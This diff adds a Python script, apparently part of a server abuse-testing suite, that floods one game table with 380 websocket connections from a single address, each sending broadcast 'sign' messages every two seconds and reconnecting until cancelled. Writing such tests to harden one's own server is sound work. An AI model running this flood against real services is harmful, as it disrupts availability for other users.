@@ -1,0 +1,27 @@
+"""380 connections of one address, at one table, make quick signs, each of which is told to all of them."""
+
+import asyncio
+from contextlib import suppress
+
+from attackers import SOURCES, client, listen, live, table_of_one
+from websockets.exceptions import WebSocketException
+
+CONNECTIONS, PAUSE_S = 380, 2.0
+
+
+async def attack(address: str) -> None:
+    """Until it is cancelled."""
+    async with client(address) as http:
+        table, key = await table_of_one(http, "game")
+    await asyncio.gather(*(_connected(address, table, key) for _ in range(CONNECTIONS)))
+
+
+async def _connected(address: str, table: str, key: str) -> None:
+    while True:
+        with suppress(OSError, WebSocketException, TimeoutError):
+            socket = await live(address, table, [key], SOURCES[0])
+            hearing = asyncio.create_task(listen(socket))
+            while not hearing.done():
+                await socket.send('{"type": "sign", "seat": 0, "sign": "wow"}')
+                await asyncio.sleep(PAUSE_S)
+        await asyncio.sleep(0.1)
